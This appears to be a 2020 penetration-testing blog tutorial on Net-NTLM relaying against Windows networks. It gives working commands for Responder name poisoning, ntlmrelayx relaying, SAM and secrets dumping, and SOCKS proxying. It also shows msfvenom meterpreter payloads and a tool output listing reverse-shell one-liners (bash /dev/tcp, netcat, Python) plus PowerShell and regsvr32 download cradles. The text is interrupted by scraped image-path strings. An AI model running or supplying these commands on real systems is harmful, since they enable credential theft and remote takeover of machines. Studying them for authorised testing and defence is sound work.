Home About

Net-NTLM Relaying

Friday, February 21, 2020

Originally, I wrote a post on this subject before. But, I felt it was a bit shoddy. So, this is my re-write on the subject.

Net-NTLM relaying is a very satisfying exploit-chain, and there are multiple approaches to it. This post will discuss:

A bit of theory

First and foremost, this is a man-in-the-middle attack. Windows machines havethe capabilities to sign SMB connections. But, commonly, this is not enabled and this article discusses the default settings of SMB Signing: https://support.microsoft.com/en-gb/help/887429/overview-of-server-message-block-signing

If an automatedprocess connects to the attacker, or the attacker is able to respond to the LLMR/NBT-NS and poison the name resolution, the the attacker is able to pass the authentication off to a target WITHOUT SMB Signing.

When the relayed authentication hits the target, the target will then generate a challenge and sends it back to the attacker. The attacker can then send the challenge back to the original host and the original host will then encrypt the hash with the correct password hash and sends it to the attacker.

The attacker can then pass the correctly encrypted response back to his target and successfully authenticate.

The diagram below is from a paper called SMB Relay Demystified and NTLMv2 Pwnage with Python and nails the brief description of this issue (please don’t sue me).

The BLUE arrows are the original communications and the RED arrows are slightly modified versions of those communications that the attacker is relaying to his target, so that he can gain access to it.

Here are some additional resources:

The Correct Targets

Before relaying a host, the correct hosts need to be identified. Microsoft have implemented severaltechniques to prevent Net-NTLM Relaying, and several CVEs were found.

For example, a bypass in MIC was found which an optional field that NTLM clients use to ensure that attackers cannot tamper with NTLM messages. The MIC is used in the msvAvFlag field within the NTLM_AUTHENTICATE message, the 0x2 flag indicates that the message includes a MIC and it should fully protect servers from attackers who attempt to remove the MIC and perform NTLM relay.

This gives the NTLM Message a bit of integrity. However, Preempt researchers identified an issue that allows attackers to remove the MIC protection and modify fields in the NTLM authentication flow, such as the signing negotiation. And now we have CVE-2019-1040.

A lot of networks, SMB Signing is not required and these hosts can easily be identified. RunFinger.py in the Responder tools repository is perfect for this.


RunFinger.py is a pythonutility used for quickly pulling out information such as OS Version, Domain, Signing etc. It is used like so:

./tools/RunFinger.py -i -g

This will produce grepable output similar to this:

['', Os:'Could not fingerprint Os version.', Domain:'AVATAR', Signing:'False', Time:'2020-02-2020:48:57', Null Session: 'False', RDP:'True']
['', Os:'Could not fingerprint Os version.', Domain:'AVATAR', Signing:'False', Time:'2020-02-20 20:48:57', Null Session: 'False', RDP:'True']
['', Os:'Could not fingerprint Os version.', Domain:'AVATAR', Signing:'False', Time:'2020-02-20 20:49:13', Null Session: 'False', RDP:'True']

But, to grab just these IPs:

cat fingerprint.txt|cut -d ',' -f1,4|grep False| cut -d ',' -f1|grep -oP "'\K[^']+"

This file can now be the hosts given to ntlmrelayx.

Configuring the toolsThe first thing here is to make that HTTP and SMB are set to off because ntlmrelayx will use these protocols. This can be found in the Responder.conf file:

[Responder Core]

; Servers to start
SQL = On
SMB = OffRDP = On
Kerberos = On
FTP = On
POP = On
HTTP = Off
DNS = On

Once that is configured, get Responder listening with the following:

sudo Responder.py -I enx000ec6b305c1


With Responder running with the above config, ntlmrelayx can start listening for incoming SMB conections. This is where the 'correct hosts' come in to play. They are supplied as a file to ntlmrelayx as a flag. The set up should now look like:

Stuff running

The -tf flag is used so that a target file is used. However, -t can be used for one host. Additionally, -smb2support is added so that ntlmrelayx accepts all versions of SMBv1 and SMBv2+.

By default, on a successful relay, ntlmrelayx will dump the SAM Database. This is easily achieved by pointing ntlmrelayx against hosts:

sudo python ntlmrelayx.py -tf no-smb-signing.txt -smb2supportResponder will now listen, pass it to ntlmrelayx and on a successful relay, dump hashes if no alternative is given:

Dumping SAM

SOCKS4 Proxying

This is probably my favourite way to do this. ntlmrelayx supports an option, -socks which can store successful relay sessions in a SOCKS4 format. In order to do this, the correct proxychains config needs to be in place.

Edit the last line of /etc/proxychains.conf file with the following entries:

socks4 <ip of machine where ntlmrelayx is running> 1080

With Responder running, run ntlmrelayx:

sudo python ntlmrelayx.py -tf no-smb-signing.txt -smb2support -socks

Once a host is successfully relayed, the ntlmrelayx output should look like this:

SOCKS hosts

Within the ntlmrelayx shell, run socks to see the available proxied hosts:

ntlmrelayx> socks
Protocol  Target        Username          AdminStatus  Port
---  ---  ---  ---  ----SMB  /                 FALSE        445

Now, the proxy is ready to use, anything can be passed through it. Heres a secretsdump example.

gimme secrets

This post from SecureAuth goes into a lot of detail on the various things that can be done with the SOCKS proxying.


The fun part!


In order to get a shell via msf, there are 3 steps.

1. MSFVenom

Create a payload:

msfvenom -p windows/meterpreter/reverse_tcp LHOST= LPORT=4444 -f exe -o rev.exe

2. Handler

Create the exploit/multi/handler:

use exploit/multi/handler
set lhost
set payload windows/meterpreter/reverse_tcp

3. NTLMRelayx

Run ntlmrelayx with the -e flag. This will tell ntlmrelayx to execute a binary on success:

sudo python ntlmrelayx.py -tf relayable.txt -e rev.exe -smb2support


With all that, something like this should happen:


Shelby is a self-plug. Shelby is an Execution Cradle Generator inspired by PoshC2 and their PoshC2_Project/quickstart.txt documentation. Its main goal was to get me through OSCP, but I totally forgot to use it. Either way, it was a funlook into how some payloads actually work.

Generating payloads

Easily done with shelby:

shelby.py --ip-address --shell-port 4444 --server-port 80

This will give a lot of different shells, like so:

The Web Delivery Server is at:
Shells receiving at:
Writing cradles to: cradles/

[+]     Shells
    •   Nishang Reverse TCP: cradles/Invoke-PowerShellTcp.ps1
    •   Nishang Bind TCP: cradles/Invoke-PowerShellTcpOneLineBind.ps1
    •   Add SSH Key (Linux): cradles/add_ssh_key.sh
[+]     SSH Keys
    •   SSH Keys written to: keys/
[+]     Cradles
[-] IEX Raw: 'Nishang Reverse TCP'
IEX (new-object system.net.webclient).downloadstring('')

[-] IEX Raw: 'Nishang Bind TCP'
IEX (new-object system.net.webclient).downloadstring('')

[-] IEX Base64: 'Nishang Reverse TCP'

[-] IEX Base64: 'Nishang Bind TCP'

[-] IEX GZIP: 'Nishang Reverse TCP'

[-] IEX GZIP: 'Nishang Bind TCP'

[-] Regsvr32: 'Nishang Reverse TCP'
regsvr32 /s /n /u /i: scrobj.dll

[-] Regsvr32: 'Nishang Bind TCP'regsvr32 /s /n /u /i: scrobj.dll

[-] Bash Reverse TCP
/bin/bash -i >& /dev/tcp/ 0>&1

[-] Netcat Reverse TCP
nc -e /bin/sh 4444

[-] Netcat Reverse TCP (OpenBSD)
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 4444 >/tmp/f

[-] Python Reverse TCP
python -c "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);

[-] Add SSH Key: Linux

[+] Written by @michaelranaldo & @mez-0 (https://ad-995.group)

Additionally, these directories and file will be created:-rwxr--r-- 1 mez0 mez0  36K Feb 20 23:00 cradle_commands.txt
drwxr-xr-x 2 mez0 mez0 4.0K Feb 20 23:00 cradles
drwxr-xr-x 2 mez0 mez0 4.0K Feb 13 17:20 keys

cradles will have several files, these are the ones that should be delivered via HTTP. The directory will look like this:

-rw-r--r-- 1 mez0 mez0  435 Feb 20 23:02 add_ssh_key.sh
-rw-r--r-- 1 mez0 mez0  558 Feb 20 23:02 Invoke-PowerShellTcpOneLineBind.ps1
-rw-r--r-- 1 mez0 mez0 4.3K Feb 20 23:02 Invoke-PowerShellTcp.ps1
-rw-r--r-- 1 mez0 mez0  592 Feb 20 23:02 regsvr32_vaeapbxmvdyd.sct
-rw-r--r-- 1 mez0 mez0  624 Feb 20 23:02 regsvr32_weqwsotxghvd.sct

For example, if the regsvr32 cradle is required, then executing the following will cause the regsvr32 binary to look up the --ip-address flag and attempt to grab the associated file (which is in the cradles directory).

regsvr32 /s /n /u /i: scrobj.dll

Serving the cradles

This can be done however, but ensure that the cradles directory is being served:sudo python3 -m http.server 80

Additionally, make sure that nc -nvlp is listening for the --cradle-port flag:

nc -nvlp 4444


For this, the payload will be:


This is a generic Nishang shell being downloaded via an encoded command:IEX (new-object system.net.webclient).downloadstring('')

In this instance, HTTP:80 is being used to serve the cradles, so an additional flag is given to ntlmrelayx:


The server:

Serving HTTP on port 80 ... - - [20/Feb/2020 23:10:59] "GET /Invoke-PowerShellTcp.ps1 HTTP/1.1" 200 -

Which means that the command successfully downloaded the shell. After a few seconds:



NTLM Relaying is a really satisfying chain of exploits. This post attempted to highlight some of my personal favourites, but I would suggest to check out SecureAuth‘s post on taking this a few steps further.


  1. Overview of Server Message Block signing
  2. Drop TheMIC 2 (CVE 2019-1166) &Exploiting LMv2 Clients (CVE-2019-1338)